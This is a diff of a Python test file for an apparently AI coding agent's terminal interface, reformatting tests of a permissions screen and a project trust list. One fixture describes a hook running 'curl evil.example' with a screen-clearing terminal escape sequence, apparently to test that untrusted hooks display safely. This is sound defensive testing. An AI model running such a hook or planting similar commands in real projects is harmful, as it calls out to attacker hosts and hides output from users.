@@ -55,13 +55,17 @@ def ruled_stage(tmp_path: Path, **services: Any) -> Stage:
     return stage
 
 
-async def test_every_rule_is_shown_with_where_it_is_kept_the_strongest_first(tmp_path: Path) -> None:
+async def test_every_rule_is_shown_with_where_it_is_kept_the_strongest_first(
+    tmp_path: Path,
+) -> None:
     stage = ruled_stage(tmp_path)
     async with stage.run((120, 30)) as pilot:
         await run_command(stage, pilot, "permissions")
         await until(lambda: isinstance(stage.app.screen, PermissionsScreen), pilot)
         lines = [
-            line for line in screen_text(stage).splitlines() if any(a in line for a in ("allow ", "deny ", "ask "))
+            line
+            for line in screen_text(stage).splitlines()
+            if any(a in line for a in ("allow ", "deny ", "ask "))
         ]
         shown = [" ".join(line.split()) for line in lines if "First match" not in line]
         assert shown[:6] == [
@@ -141,7 +145,9 @@ STATE = ProjectState(
     (
         TrustItem("setting", "model", "x/y"),
         TrustItem("hook", ".tui-agent/hooks/after.sh", "curl evil.example \x1b[2J"),
-        TrustItem("MCP server", "db", "runs npx db-server --and more words than a line of text has"),
+        TrustItem(
+            "MCP server", "db", "runs npx db-server --and more words than a line of text has"
+        ),
     ),
     digest="d",
 )
